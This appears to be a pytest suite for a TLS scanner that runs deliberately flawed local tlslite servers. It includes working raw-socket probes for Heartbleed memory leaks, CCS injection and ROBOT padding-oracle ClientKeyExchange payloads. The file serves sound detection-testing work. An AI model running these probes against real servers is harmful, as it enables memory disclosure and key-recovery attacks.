"""The deliberately vulnerable tlslite servers show their flaw on the wire, and the same script without the flag
does not: Heartbleed, CCS injection and a ROBOT padding oracle (weak and strong), each probed by a small
raw-socket client, plus unit tests of the flaw logic in ``tests/servers/tlslite_flaws.py``."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Callable, Iterator
from contextlib import ExitStack

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa

from tests.servers.processes import RunningServer, start_tlslite_server
from tests.servers.tlslite_flaws import FAKE_SECRET, Padding, classify_premaster_block, heartbeat_response
from tlsprobe.testing import TestPKI
from tlsprobe.wire import (
    TLS_FALLBACK_SCSV,
    AlertDescription,
    AlertLevel,
    CertificateMessage,
    ClientHelloSpec,
    ContentType,
    ExtensionType,
    HandshakeType,
    Record,
    RecordReader,
    ServerEvent,
    ServerFlightReader,
    ServerHello,
    ServerHelloDone,
    TLSVersion,
    build_client_hello,
    cipher_suite_by_name,
    encode_record,
)

pytestmark = [pytest.mark.realserver, pytest.mark.timeout(60)]


def _suite(name: str) -> int:
    suite = cipher_suite_by_name(name)
    assert suite is not None
    return suite.code


RSA_SUITE = _suite("TLS_RSA_WITH_AES_128_GCM_SHA256")
CBC_RSA_SUITE = _suite("TLS_RSA_WITH_AES_128_CBC_SHA")
ECDHE_SUITE = _suite("TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256")
SECP256R1 = 23
TLS12 = 0x0303
TLS10 = 0x0301
HEARTBEAT_REQUEST = 1
HEARTBEAT_RESPONSE = 2
CLOSE_NOTIFY_WARNING = encode_record(
    ContentType.alert, TLS12, bytes((AlertLevel.warning, AlertDescription.close_notify))
)
JUNK_FINISHED = encode_record(ContentType.handshake, TLS12, bytes(range(80)))  # nobody can compute a real one
CHANGE_CIPHER_SPEC = encode_record(ContentType.change_cipher_spec, TLS12, b"\x01")
PREMASTER_TAIL = bytes(range(0x20, 0x20 + 46))  # no zero byte: the "no separator" payload must have none

ServerFactory = Callable[[str], RunningServer]


# -- the servers -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def tlslite(test_pki: TestPKI) -> Iterator[ServerFactory]:
    """``tlslite("--robot weak")``: the TLS 1.2 tlslite server with those flags, started once per module."""
    started: dict[str, RunningServer] = {}
    with ExitStack() as stack:

        def server(flags: str) -> RunningServer:
            if flags not in started:
                started[flags] = stack.enter_context(
                    start_tlslite_server(
                        cert=test_pki.rsa_chain, key=test_pki.rsa_key, max_version="tls1.2", extra_args=flags.split()
                    )
                )
            return started[flags]

        yield server


# -- a raw-socket client ---------------------------------------------------------------------------


class RawClient:
    """One TCP connection that sends hand-made records and reads the server's records back."""

    def __init__(self, server: RunningServer) -> None:
        self.server = server
        self.sock = socket.create_connection(server.address, timeout=5)
        self.records = RecordReader()

    def __enter__(self) -> RawClient:
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.sock.close()

    def hello(self, spec: ClientHelloSpec, *, then: bytes = b"") -> list[ServerEvent]:
        """Send the ClientHello (and ``then`` in the same write) and read the server's flight."""
        self.sock.sendall(build_client_hello(spec) + then)
        flight = ServerFlightReader()
        events: list[ServerEvent] = []
        while not flight.done:
            record = self._next_record()
            assert record is not None, f"server closed during its flight; it said:\n{self.server.output()}"
            events += flight.feed(encode_record(record.content_type, record.version, record.payload))
        assert isinstance(events[-1], ServerHelloDone), events
        return events

    def rsa_hello(self) -> tuple[ServerHello, rsa.RSAPublicNumbers]:
        """A TLS 1.2 hello offering only RSA key exchange: the ServerHello and the certificate's public key."""
        events = self.hello(ClientHelloSpec(version=TLSVersion.TLS1_2, cipher_suites=(RSA_SUITE,)))
        certificate = next(event for event in events if isinstance(event, CertificateMessage))
        public_key = x509.load_der_x509_certificate(certificate.certificates[0]).public_key()
        assert isinstance(public_key, rsa.RSAPublicKey)
        hello = events[0]
        assert isinstance(hello, ServerHello) and hello.cipher_suite == RSA_SUITE
        return hello, public_key.public_numbers()

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def read_until_closed(self) -> list[Record]:
        """Every record the server sends until it closes the connection."""
        received = []
        while (record := self._next_record()) is not None:
            received.append(record)
        return received

    def _next_record(self) -> Record | None:
        while (record := self.records.next_record()) is None:
            data = self.sock.recv(65536)
            if not data:
                assert self.records.buffered == 0, "the server closed in the middle of a record"
                return None
            self.records.feed(data)
        return record


def alerts(records: list[Record]) -> tuple[str, ...]:
    """The alerts among ``records``, as "fatal bad_record_mac"; empty when the server closed without one."""
    return tuple(
        f"{AlertLevel(record.payload[0]).name} {AlertDescription(record.payload[1]).name}"
        for record in records
        if record.content_type == ContentType.alert
    )


def heartbeat_messages(records: list[Record]) -> bytes:
    """The payloads of the heartbeat records, joined (a long response spans several records)."""
    return b"".join(record.payload for record in records if record.content_type == ContentType.heartbeat)


def heartbeat_request(declared_length: int, payload: bytes, padding: int, version: int = TLS12) -> bytes:
    message = bytes((HEARTBEAT_REQUEST,)) + declared_length.to_bytes(2, "big") + payload + bytes(padding)
    return encode_record(ContentType.heartbeat, version, message)


# -- Heartbleed ------------------------------------------------------------------------------------


@pytest.mark.parametrize("flags", ["--heartbleed", ""])
def test_heartbleed_leaks_past_an_overlong_request(tlslite: ServerFactory, flags: str) -> None:
    with RawClient(tlslite(flags)) as client:
        events = client.hello(ClientHelloSpec(version=TLSVersion.TLS1_2, cipher_suites=(RSA_SUITE,), heartbeat=True))
        assert isinstance(events[0], ServerHello)
        assert events[0].extension(ExtensionType.heartbeat) == b"\x01"  # peer_allowed_to_send, flawed or not
        # Mid-handshake, under record version TLS 1.0: declares 16384 payload bytes and sends 2. The close_notify
        # after it makes tlslite answer, so that everything the server says about the heartbeat comes first.
        client.send(heartbeat_request(0x4000, b"hi", padding=0, version=TLS10) + CLOSE_NOTIFY_WARNING)
        records = client.read_until_closed()
    response = heartbeat_messages(records)
    assert alerts(records) == ("warning close_notify",)
    if not flags:
        assert response == b""  # tlslite drops the malformed request
        return
    assert {record.version for record in records if record.content_type == ContentType.heartbeat} == {TLS10}
    assert len(response) == 3 + 0x4000 + 16  # type, length, the declared payload, 16 bytes of padding
    assert response[:3] == bytes((HEARTBEAT_RESPONSE,)) + (0x4000).to_bytes(2, "big")
    leaked = response[3 : 3 + 0x4000]
    assert leaked.startswith(b"hi" + FAKE_SECRET + FAKE_SECRET)
    assert leaked.count(FAKE_SECRET) == (0x4000 - 2) // len(FAKE_SECRET)


@pytest.mark.parametrize(("flags", "answers_unpadded"), [("--heartbleed", True), ("", False)])
def test_well_formed_heartbeats_are_echoed(tlslite: ServerFactory, flags: str, answers_unpadded: bool) -> None:
    spec = ClientHelloSpec(version=TLSVersion.TLS1_2, cipher_suites=(RSA_SUITE,), heartbeat=True)
    with RawClient(tlslite(flags)) as client:
        # Sent right behind the ClientHello, before the server said anything: one RFC 6520 request with its
        # 16 padding bytes, then one without padding, the way SSLyze probes without exploiting.
        padded = heartbeat_request(5, b"hello", padding=16)
        unpadded = heartbeat_request(16381, b"\x01" * 16381, padding=0)
        client.hello(spec, then=padded + unpadded)
        client.send(CLOSE_NOTIFY_WARNING)
        records = client.read_until_closed()
    response = heartbeat_messages(records)
    assert response[:8] == b"\x02\x00\x05hello"
    assert len(response) == 8 + 16 + (3 + 16381 + 16 if answers_unpadded else 0)
    assert (b"\x01" * 16381 in response) is answers_unpadded
    assert alerts(records) == ("warning close_notify",)


# -- CCS injection ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("flags", "expected"), [("--ccs-injection", "fatal bad_record_mac"), ("", "fatal unexpected_message")]
)
def test_early_change_cipher_spec(tlslite: ServerFactory, flags: str, expected: str) -> None:
    with RawClient(tlslite(flags)) as client:
        client.rsa_hello()
        client.send(CHANGE_CIPHER_SPEC + encode_record(ContentType.application_data, TLS12, b"\x00\x00"))
        assert alerts(client.read_until_closed()) == (expected,)


@pytest.mark.parametrize("flags", ["--ccs-injection", ""])
def test_early_change_cipher_spec_then_key_exchange(tlslite: ServerFactory, flags: str) -> None:
    # After the injected CCS, any record is "undecryptable", even the ClientKeyExchange.
    expected = "fatal bad_record_mac" if flags else "fatal unexpected_message"
    with RawClient(tlslite(flags)) as client:
        _hello, public_key = client.rsa_hello()
        client.send(CHANGE_CIPHER_SPEC + client_key_exchange(Padding.VALID, public_key))
        assert alerts(client.read_until_closed()) == (expected,)


# -- ROBOT -----------------------------------------------------------------------------------------


def premaster_block(kind: Padding, size: int, version: int = TLS12) -> bytes:
    """A PKCS#1 v1.5 block of ``size`` bytes around a TLS premaster secret, well formed or broken as ``kind``."""
    padding = (b"\xab\xcd" * size)[: size - 3 - 48]
    premaster = version.to_bytes(2, "big") + PREMASTER_TAIL
    block = {
        Padding.VALID: b"\x00\x02" + padding + b"\x00" + premaster,
        Padding.WRONG_PREFIX: b"\x00\x17" + padding + b"\x00" + premaster,
        Padding.NO_SEPARATOR: b"\x00\x02" + padding + b"\x11\x11\x11" + PREMASTER_TAIL,
        Padding.MISPLACED_SEPARATOR: b"\x00\x02" + padding + b"\x11" + PREMASTER_TAIL + b"\x00\x11",
        Padding.WRONG_VERSION: b"\x00\x02" + padding + b"\x00\x02\x02" + PREMASTER_TAIL,
    }[kind]
    assert len(block) == size
    return block


def client_key_exchange(kind: Padding, public_key: rsa.RSAPublicNumbers) -> bytes:
    """The RSA ClientKeyExchange record of a ``kind`` block, raw-encrypted with the server's key."""
    size = (public_key.n.bit_length() + 7) // 8
    encrypted = pow(int.from_bytes(premaster_block(kind, size), "big"), public_key.e, public_key.n).to_bytes(
        size, "big"
    )
    body = len(encrypted).to_bytes(2, "big") + encrypted
    message = bytes((HandshakeType.client_key_exchange,)) + len(body).to_bytes(3, "big") + body
    return encode_record(ContentType.handshake, TLS12, message)


def robot_reaction(server: RunningServer, kind: Padding, *, with_finished: bool) -> tuple[str, ...]:
    """The alerts the server answers one ROBOT payload with; () when it just closes.

    Without the Finished, the client half-closes after the ClientKeyExchange: a server that waits for more
    then sees the end of the stream instead of waiting for its timeout.
    """
    with RawClient(server) as client:
        _hello, public_key = client.rsa_hello()
        cke = client_key_exchange(kind, public_key)
        if with_finished:
            client.send(cke + CHANGE_CIPHER_SPEC + JUNK_FINISHED)
        else:
            client.send(cke)
            client.sock.shutdown(socket.SHUT_WR)
        return alerts(client.read_until_closed())


_NO_ORACLE_FULL = dict.fromkeys(Padding, ("fatal bad_record_mac",))
_NO_ORACLE_ALONE: dict[Padding, tuple[str, ...]] = dict.fromkeys(Padding, ())
_STRONG_ALERTS = {
    Padding.VALID: (),
    Padding.WRONG_PREFIX: ("fatal handshake_failure",),
    Padding.NO_SEPARATOR: ("fatal decode_error",),
    Padding.MISPLACED_SEPARATOR: ("fatal decrypt_error",),
    Padding.WRONG_VERSION: ("fatal illegal_parameter",),
}


@pytest.mark.parametrize(
    ("flags", "with_finished", "expected"),
    [
        pytest.param("", True, _NO_ORACLE_FULL, id="clean-full-flight"),
        pytest.param("", False, _NO_ORACLE_ALONE, id="clean-cke-alone"),
        pytest.param(
            "--robot weak",
            True,
            {**dict.fromkeys(Padding, ()), Padding.VALID: ("fatal bad_record_mac",)},
            id="weak-full-flight",
        ),
        pytest.param("--robot weak", False, _NO_ORACLE_ALONE, id="weak-cke-alone"),
        pytest.param(
            "--robot strong",
            True,
            {**_STRONG_ALERTS, Padding.VALID: ("fatal bad_record_mac",)},
            id="strong-full-flight",
        ),
        pytest.param("--robot strong", False, _STRONG_ALERTS, id="strong-cke-alone"),
    ],
)
def test_robot_oracle(
    tlslite: ServerFactory, flags: str, with_finished: bool, expected: dict[Padding, tuple[str, ...]]
) -> None:
    server = tlslite(flags)
    # Twice per payload: an oracle is only useful when the same payload always gets the same answer.
    reactions = {kind: robot_reaction(server, kind, with_finished=with_finished) for kind in Padding}
    again = {kind: robot_reaction(server, kind, with_finished=with_finished) for kind in Padding}
    assert reactions == again == expected


@pytest.mark.parametrize("flags", ["--robot strong", ""])
def test_robot_needs_rsa_key_exchange(tlslite: ServerFactory, flags: str) -> None:
    # The same malformed RSA block as the ClientKeyExchange of an ECDHE handshake: tlslite's own answer.
    spec = ClientHelloSpec(version=TLSVersion.TLS1_2, cipher_suites=(ECDHE_SUITE,), groups=(SECP256R1,))
    with RawClient(tlslite(flags)) as client:
        events = client.hello(spec)
        assert isinstance(events[0], ServerHello) and events[0].cipher_suite == ECDHE_SUITE
        certificate = next(event for event in events if isinstance(event, CertificateMessage))
        public_key = x509.load_der_x509_certificate(certificate.certificates[0]).public_key()
        assert isinstance(public_key, rsa.RSAPublicKey)
        client.send(client_key_exchange(Padding.WRONG_PREFIX, public_key.public_numbers()))
        assert alerts(client.read_until_closed()) == ("fatal decode_error",)


# -- the flaws together, and with ordinary clients -------------------------------------------------


def test_flags_combine(tlslite: ServerFactory) -> None:
    server = tlslite("--heartbleed --ccs-injection --robot strong --no-fallback-scsv")
    with RawClient(server) as client:
        client.rsa_hello()
        client.send(heartbeat_request(100, b"", padding=0) + CHANGE_CIPHER_SPEC + CLOSE_NOTIFY_WARNING)
        records = client.read_until_closed()
    assert FAKE_SECRET in heartbeat_messages(records)
    assert alerts(records) == ("fatal bad_record_mac",)
    assert robot_reaction(server, Padding.WRONG_PREFIX, with_finished=False) == ("fatal handshake_failure",)
    fallback = ClientHelloSpec(version=TLSVersion.TLS1_1, cipher_suites=(CBC_RSA_SUITE, TLS_FALLBACK_SCSV))
    with RawClient(server) as client:
        events = client.hello(fallback)
    assert isinstance(events[0], ServerHello) and events[0].version is TLSVersion.TLS1_1


@pytest.mark.parametrize("flags", ["--heartbleed --ccs-injection --robot strong", "--robot weak"])
@pytest.mark.parametrize("cipher", ["AES128-GCM-SHA256", "ECDHE-RSA-AES128-GCM-SHA256"])
def test_flawed_servers_still_serve_ordinary_clients(
    tlslite: ServerFactory, test_pki: TestPKI, flags: str, cipher: str
) -> None:
    context = ssl.create_default_context(cafile=str(test_pki.ca_cert))
    context.set_ciphers(cipher)
    server = tlslite(flags)
    with (
        socket.create_connection(server.address, timeout=5) as sock,
        context.wrap_socket(sock, server_hostname="localhost") as tls,
    ):
        tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        response = tls.recv(4096)
        negotiated = tls.cipher()
    assert negotiated is not None and negotiated[0] == cipher
    assert response.startswith(b"HTTP/1.1 200 OK"), server.output()


# -- the flaw logic alone --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", list(Padding))
def test_classify_premaster_block(kind: Padding) -> None:
    assert classify_premaster_block(premaster_block(kind, 256), TLS12) is kind


def test_classify_premaster_block_edge_cases() -> None:
    valid = premaster_block(Padding.VALID, 256)
    assert classify_premaster_block(valid, 0x0302) is Padding.WRONG_VERSION  # the ClientHello offered TLS 1.1
    short_padding = b"\x00\x02" + b"\x11" * 7 + b"\x00" + bytes(range(1, 256 - 10 + 1))
    assert classify_premaster_block(short_padding, TLS12) is Padding.MISPLACED_SEPARATOR
    assert classify_premaster_block(b"\x01" + valid[1:], TLS12) is Padding.WRONG_PREFIX


def test_heartbeat_response() -> None:
    echoed = heartbeat_response(b"\x01\x00\x03abc" + bytes(16))
    assert echoed is not None and echoed[:6] == b"\x02\x00\x03abc" and len(echoed) == 6 + 16
    leaked = heartbeat_response(b"\x01\x00\x20ab")
    assert leaked is not None and leaked[3 : 3 + 0x20] == (b"ab" + FAKE_SECRET * 2)[:0x20]
    assert len(leaked) == 3 + 0x20 + 16
    assert heartbeat_response(b"\x02\x00\x03abc") is None  # a response is not answered
    assert heartbeat_response(b"\x01\x00") is None  # too short to hold a length
